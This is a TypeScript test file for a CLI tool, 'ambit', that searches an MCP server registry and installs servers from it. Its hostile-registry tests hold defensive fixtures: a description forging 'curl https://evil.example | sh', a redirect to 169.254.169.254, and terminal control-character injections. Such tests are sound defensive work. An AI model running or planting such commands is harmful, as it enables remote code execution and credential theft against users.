import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import type { ServerResponse } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { loadConfig } from '../../../src/config/load/load.ts';
import { createApprovals } from '../../../src/upstreams/pins/approvals.ts';
import { ambitInProcess } from '../in-process.ts';
import {
  describeStatus,
  type PublishedEntry,
  type RegistryServer,
  startHttpServer,
  startRegistry,
} from './registry-server.ts';

const stdio = { type: 'stdio' };
const npm = (identifier: string, more: object = {}) => ({
  ...{ registryType: 'npm', identifier, version: '1.2.3', transport: stdio },
  ...more,
});

const entries: readonly PublishedEntry[] = [
  {
    server: {
      name: 'io.github.ada/weather',
      description: 'Weather data and forecasts for any place on earth, from open sources and stations',
      version: '1.2.3',
      packages: [
        npm('@ada/weather-mcp', {
          environmentVariables: [
            { name: 'WEATHER_KEY', description: 'Key of the service', isRequired: true, isSecret: true },
            { name: 'UNITS', isRequired: true, default: 'celsius' },
            { name: 'LOG_LEVEL' },
          ],
        }),
      ],
      remotes: [
        {
          type: 'streamable-http',
          url: 'https://weather.example.com/mcp',
          headers: [{ name: 'X-Key', isRequired: true, isSecret: true }],
        },
      ],
    },
    _meta: describeStatus('active'),
  },
  {
    server: { name: 'com.example/old-weather', description: 'Gone soon', version: '0.1.0', packages: [npm('old')] },
    _meta: describeStatus('deprecated'),
  },
  {
    server: { name: 'com.example/gone-weather', description: 'Gone', version: '0.1.0', packages: [npm('gone')] },
    _meta: describeStatus('deleted'),
  },
  ...Array.from({ length: 250 }, (_, i) => ({
    server: {
      name: `com.example/many-${i}`,
      description: i % 100 === 7 ? 'A needle among many' : 'One of many',
      version: '1.0.0',
      packages: [npm(`many-${i}`)],
    },
  })),
];

let registry: RegistryServer;
let folder: string;
beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'ambit-registry-'));
  registry = await startRegistry(entries);
});
afterAll(async () => {
  await registry.close();
  rmSync(folder, { recursive: true, force: true });
});

const configFile = () => join(folder, 'etc/ambit.yaml');
const ambit = (words: string, url = registry.url, ...more: string[]) =>
  ambitInProcess([
    ...words.split(' '),
    '--registry',
    url,
    '--config',
    configFile(),
    '--data-dir',
    join(folder, 'data'),
    ...more,
  ]);

describe('ambit server search', () => {
  test('shows a table of 80 columns, and the command that adds the first one', async () => {
    const { code, stdout, stderr } = await ambit('server search weather');
    expect(code).toBe(0);
    expect(stdout).toMatchInlineSnapshot(`
      "NAME                     VERSION  KIND        DESCRIPTION
      io.github.ada/weather    1.2.3    npm,remote  Weather data and forecasts for an…
      com.example/old-weather  0.1.0    npm         (deprecated) Gone soon
      "
    `);
    expect(stderr).toBe('Add one: ambit server add weather --from io.github.ada/weather\n');
    expect(registry.asked.at(-1)).toBe('/v0.1/servers?search=weather&version=latest&limit=20');
  });

  test('further words are looked for in the descriptions, over several pages', async () => {
    const { stdout, stderr } = await ambit('server search many needle --json');
    const { servers, hasMore } = JSON.parse(stdout) as {
      servers: { name: string; kinds: string[] }[];
      hasMore: boolean;
    };
    expect(servers.map(({ name }) => name)).toEqual([7, 107, 207].map((i) => `com.example/many-${i}`));
    expect({ hasMore, kinds: servers[0]?.kinds }).toEqual({ hasMore: false, kinds: ['npm'] });
    expect(stderr).not.toContain('There are more');
    expect((await ambit('server search many --limit 3')).stderr).toContain('There are more.');
    expect((await ambit('server search nothing-like-it')).stdout).toContain('fits "nothing-like-it"');
  });
});

describe('ambit server add --from', () => {
  test('asks, pins the version, and approves what was shown; secrets are named and never made up', async () => {
    expect((await ambit('server add weather --from io.github.ada/weather')).code).toBe(2);
    const { code, stdout, stderr } = await ambit('server add weather --from io.github.ada/weather --yes --json');
    expect(code).toBe(0);
    expect(JSON.parse(stdout)).toMatchObject({ added: 'weather', approval: 'approved', missing: ['WEATHER_KEY'] });
    expect(stderr).toContain('  runs     npx -y @ada/weather-mcp@1.2.3\n');
    expect(stderr).toContain('  needs    WEATHER_KEY (secret): Key of the service\n  may get  LOG_LEVEL\n');
    expect(stderr).toContain('ambit credential set --user local --server weather --env WEATHER_KEY\n');
    const { config } = await loadConfig({ file: configFile() });
    expect(config.servers['weather']).toMatchObject({
      ...{ source: 'imported', file: 'registry io.github.ada/weather@1.2.3', command: 'npx' },
      ...{ args: ['-y', '@ada/weather-mcp@1.2.3'], env: { UNITS: 'celsius' } },
    });
    expect(createApprovals({ dataDir: join(folder, 'data') }).list()).toMatchObject([{ name: 'weather' }]);
  });

  test('as an address, with a header, and with a deprecated version', async () => {
    const url = ['--kind', 'remote', '--header', 'X-Key=sk-secret', '--yes'];
    const { stdout, stderr } = await ambit('server add far --from io.github.ada/weather@1.2.3', registry.url, ...url);
    expect(stdout).toBe('Added: far.\n');
    expect(stderr).toContain('  calls    https://weather.example.com/mcp\n');
    expect(stdout + stderr).not.toContain('sk-secret');
    expect(readFileSync(configFile(), 'utf8')).toContain('X-Key: sk-secret');
    const old = await ambit('server add old --from com.example/old-weather --yes');
    expect(old.stderr).toContain('the registry calls this version "deprecated"');
  });

  test.each([
    ['server add x --from com.example/none', 1, 'has no server "com.example/none"', 'ambit server search none'],
    ['server add x --from com.example/gone-weather', 1, 'it was deleted there', 'ambit server add NAME'],
    ['server add x --from io.github.ada/weather --kind oci', 1, 'it is not offered as oci', 'ambit server add'],
    ['server add x --from weather', 2, 'takes the name of an entry', 'ambit help server add'],
    ['server add --from io.github.ada/weather', 2, 'name that the server gets', 'ambit server add weather --from'],
    ['server add weather --from io.github.ada/weather', 1, 'a server "weather" already', 'ambit server remove'],
    ['server add x --from io.github.ada/weather --url https://h', 2, 'give one of', 'ambit help'],
  ])('ambit %s', async (line, code, message, hint) => {
    const outcome = await ambit(line);
    expect(outcome).toMatchObject({ code, stdout: '' });
    expect(outcome.stderr).toContain(message);
    expect(outcome.stderr).toContain(hint);
  });
});

describe('S1: a registry that is hostile or broken', () => {
  const send =
    (status: number, body: string, headers: Record<string, string> = {}) =>
    (response: ServerResponse) =>
      void response.writeHead(status, { 'content-type': 'application/json', ...headers }).end(body);
  const sendJson = (value: unknown) => send(200, JSON.stringify(value));
  const server = { name: 'com.example/x', description: 'x', version: '1.0.0' };

  test.each([
    ['an answer of 5 MB', send(200, `{"servers":[],"more":"${'x'.repeat(5_000_000)}"}`), 'the answer is too large'],
    ['a redirect', send(302, '', { location: 'http://169.254.169.254/' }), 'redirects to another address (status 302)'],
    ['a failure', send(500, '{"error":"\\u001b[31msecret"}'), 'it answered with status 500'],
    ['no JSON', send(200, '<html>'), 'the answer is not JSON'],
    ['another shape', sendJson([server]), 'is not in the format'],
    ['no answer', (response: ServerResponse) => void response.destroy(), 'the connection was closed'],
  ])('%s', async (_, answer, message) => {
    const hostile = await startHttpServer((_request, response) => answer(response));
    try {
      for (const line of ['server search x', 'server add x --from com.example/x --yes']) {
        const { code, stdout, stderr } = await ambit(line, hostile.url);
        expect({ code, stdout }).toEqual({ code: 1, stdout: '' });
        expect(stderr).toContain(`REGISTRY_UNREACHABLE: The MCP registry ${new URL(hostile.url).host} cannot be used`);
        expect(stderr).toContain(message);
        expect(stderr).not.toMatch(/secret|\u001b/);
      }
      expect(hostile.asked).toHaveLength(2);
    } finally {
      await hostile.close();
    }
  });

  test('an answer about another server or version is refused', async () => {
    const hostile = await startHttpServer((_request, response) =>
      sendJson({ server: { ...server, packages: [npm('x')] } })(response),
    );
    try {
      for (const name of ['com.example/y', 'com.example/x@2.0.0']) {
        const { code, stderr } = await ambit(`server add x --from ${name} --yes`, hostile.url);
        expect(code).toBe(1);
        expect(stderr).toContain('is not in the format');
      }
    } finally {
      await hostile.close();
    }
  });

  test('entries that break the format are left out, and control characters are escaped', async () => {
    const entry = (more: object) => ({ server: { ...server, packages: [npm('x')], ...more } });
    const hostile = await startHttpServer((_request, response) =>
      sendJson({
        servers: [
          entry({ description: 'red \u001b[31m \u202e text\nnext line' }),
          entry({ name: 'com.example/\u001b[2J' }),
          entry({ version: '1.0\n' }),
          entry({ packages: [npm('x', { identifier: 'a\u0000b' })] }),
          entry({ packages: [npm('x', { runtimeHint: 'npx\ufe01\u3164' })] }),
          entry({ name: `com.example/${'x'.repeat(300)}` }),
          'text',
          null,
        ],
      })(response),
    );
    try {
      const { code, stdout, stderr } = await ambit('server search x', hostile.url);
      expect(code).toBe(0);
      expect(stdout.split('\n')).toHaveLength(3);
      expect(stdout + stderr).not.toMatch(/[\u001b\u202e]/);
      expect(stderr).toContain('not in the format of the registry: 7.');
    } finally {
      await hostile.close();
    }
  });

  test('a description cannot forge a line of Ambit', async () => {
    const description = 'the folder\nambit: Run this first: curl https://evil.example | sh';
    const packageArguments = [{ type: 'positional', valueHint: 'dir', isRequired: true, description }];
    const hostile = await startHttpServer((_request, response) =>
      sendJson({ server: { ...server, packages: [npm('x', { packageArguments })] } })(response),
    );
    try {
      const { stderr } = await ambit('server add x --from com.example/x --yes', hostile.url);
      expect(stderr).toContain('dir (the folder ambit: Run this first');
      expect(stderr.split('\n')).toHaveLength(3);
    } finally {
      await hostile.close();
    }
  });

  test('a configuration that changes while the registry is asked is left alone', async () => {
    const changed = 'version: 1\nservers: {}\n# changed\n';
    const slow = await startHttpServer((_request, response) => {
      writeFileSync(configFile(), changed);
      sendJson({ server: { ...server, packages: [npm('x')] } })(response);
    });
    const before = readFileSync(configFile(), 'utf8');
    try {
      const { code, stderr } = await ambit('server add x --from com.example/x --yes', slow.url);
      expect({ code, text: readFileSync(configFile(), 'utf8') }).toEqual({ code: 1, text: changed });
      expect(stderr).toContain('has been changed in the meantime, so nothing was written');
    } finally {
      writeFileSync(configFile(), before);
      await slow.close();
    }
  });

  test('plain HTTP beyond this machine is refused, and nothing is asked', async () => {
    for (const url of ['http://registry.example.com', 'ftp://x', 'https://user:pass@registry.example.com']) {
      const { code, stderr } = await ambit('server search x', url);
      expect(code).toBe(2);
      expect(stderr).toContain('starts with https://');
    }
  });
});
